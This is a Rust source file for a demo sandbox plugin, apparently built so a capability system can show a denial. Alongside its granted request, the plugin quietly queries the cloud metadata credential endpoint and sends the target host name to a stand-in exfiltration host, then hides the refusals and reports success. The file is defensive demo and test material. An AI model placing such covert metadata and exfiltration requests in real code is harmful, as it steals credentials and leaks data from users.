//! `demo-curious`: a plugin that wants more than it was handed, so that `capstep demo` can show a denial.
//!
//! It works as it should, and on the side it tries what a stolen dependency would: the cloud's metadata service, and a
//! host of its maker's. It says nothing about being refused and reports success; the step fails all the same.

use capstep_sdk::http::{Http, Request};
use capstep_sdk::log::Log;
use capstep_sdk::{Failure, Pointer};
use serde::{Deserialize, Serialize};

/// Where clouds hand out credentials to whoever asks from within.
const METADATA: &str = "http://169.254.169.254/latest/meta-data/";

/// Where the loot would go; `.example` is reserved, so it is nobody's.
const ELSEWHERE: &str = "https://exfil.example/";

/// What the step takes; `plugin.toml` documents each.
#[derive(Debug, Serialize, Deserialize)]
#[serde(deny_unknown_fields, rename_all = "kebab-case")]
pub struct Inputs {
    /// The address that it may ask.
    pub url: String,
}

/// What the step gives.
#[derive(Debug, PartialEq, Eq, Serialize)]
pub struct Outputs {
    /// The status with which the address answered.
    pub status: u16,
    /// How many of the other addresses could not be asked.
    pub refused: u32,
}

/// Asks the address, and two others.
///
/// # Errors
/// The address itself gives no answer.
pub fn run(host: &(impl Http + Log), inputs: Inputs) -> Result<Outputs, Failure> {
    let own = host.send(&request(None))?;
    host.info(format_args!("{} answered with {}", inputs.url, own.status));
    let mut refused = 0;
    for other in [METADATA.to_owned(), elsewhere(&inputs.url)] {
        host.info(format_args!("and now, quietly, {other}"));
        if host.send(&request(Some(other))).is_err() {
            refused += 1;
        }
    }
    Ok(Outputs {
        status: own.status,
        refused,
    })
}

/// There is one input to name, so each request claims to be for that.
fn request(url: Option<String>) -> Request {
    let mut request = Request::new("GET", &Pointer::input("url"));
    request.url = url;
    request
}

/// An address made of the one that was handed over.
fn elsewhere(url: &str) -> String {
    let host = url.split_once("://").map_or(url, |(_, rest)| rest);
    let host = host.split('/').next().unwrap_or_default();
    format!("{ELSEWHERE}?from={host}")
}

capstep_sdk::step!(run);

#[cfg(test)]
mod tests {
    use capstep_sdk::http::Response;
    use capstep_sdk::testing::{Answer, Call, Mock, Reply, manifest};
    use capstep_sdk::{Error, ErrorKind};
    use serde_json::json;

    use super::*;

    /// A host that lets this many of the requests through.
    fn host(allowed: usize) -> Mock<'static> {
        let mut asked = 0;
        Mock::new(move |_: &Call| -> Reply {
            asked += 1;
            if asked > allowed {
                return Error::new(ErrorKind::Denied, "not granted").into();
            }
            let response = Response {
                status: 200,
                headers: Vec::new(),
                body: Vec::new(),
                truncated: false,
                url: String::new(),
                peer: String::new(),
                latency: 0,
            };
            Answer::Response(response).into()
        })
    }

    fn inputs() -> Inputs {
        let url = "http://127.0.0.1:8080/a".to_owned();
        Inputs { url }
    }

    #[test]
    fn it_asks_for_more_and_says_nothing_of_it() {
        let host = host(1);
        let expected = Outputs {
            status: 200,
            refused: 2,
        };
        assert_eq!(run(&host, inputs()), Ok(expected));
        let asked: Vec<_> = host
            .calls()
            .into_iter()
            .map(|call| match call {
                Call::Send(request) => (request.input, request.url),
                other => panic!("not expected: {other:?}"),
            })
            .collect();
        let claimed = |url: Option<&str>| ("/url".to_owned(), url.map(str::to_owned));
        assert_eq!(
            asked,
            [
                claimed(None),
                claimed(Some("http://169.254.169.254/latest/meta-data/")),
                claimed(Some("https://exfil.example/?from=127.0.0.1:8080")),
            ]
        );
    }

    #[test]
    fn its_own_address_must_answer() {
        let failure = run(&host(0), inputs()).unwrap_err();
        assert_eq!(failure.kind, Some(ErrorKind::Denied));
    }

    #[test]
    fn the_manifest_and_the_code_agree() {
        let outputs = Outputs {
            status: 200,
            refused: 2,
        };
        let inputs = json!({ "url": "http://127.0.0.1:8080/" });
        let found = manifest::problems::<Inputs, _>(
            include_str!("../plugin.toml"),
            &inputs,
            &inputs,
            &outputs,
        );
        assert!(found.is_empty(), "{found:#?}");
    }
}
